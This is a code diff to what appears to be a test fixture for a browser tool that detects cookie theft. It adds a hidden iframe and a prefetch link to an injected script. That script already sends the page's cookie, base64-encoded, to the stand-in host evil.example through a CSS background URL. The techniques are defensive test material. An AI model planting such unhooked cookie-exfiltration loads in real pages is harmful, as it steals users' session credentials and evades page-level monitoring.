@@ -219,8 +219,8 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
-   * document DOMParser made, an Attr changed through `nodeValue`, media, and a CSS background whose URL holds
-   * the cookie in base64. Only the network timeline sees these, and only the cookie in the URL tells them
+   * document DOMParser made, an Attr changed through `nodeValue`, media, a CSS background whose URL holds
+   * the cookie in base64, a frame's `src` and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them
    * from pictures.
    */
   'unhooked-pixels': `(() => {
@@ -249,6 +249,14 @@ export const MAIN_WORLD_SCRIPTS = {
   encoded.style.background = 'url(https://evil.example/u-b64.gif?d=' + btoa(c) + ')';
   encoded.textContent = '.';
   document.body.appendChild(encoded);
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.src = at('u-frame');
+  document.body.appendChild(frame);
+  const prefetch = document.createElement('link');
+  prefetch.rel = 'prefetch';
+  prefetch.href = at('u-prefetch');
+  document.head.appendChild(prefetch);
 })();`,
 
   /**
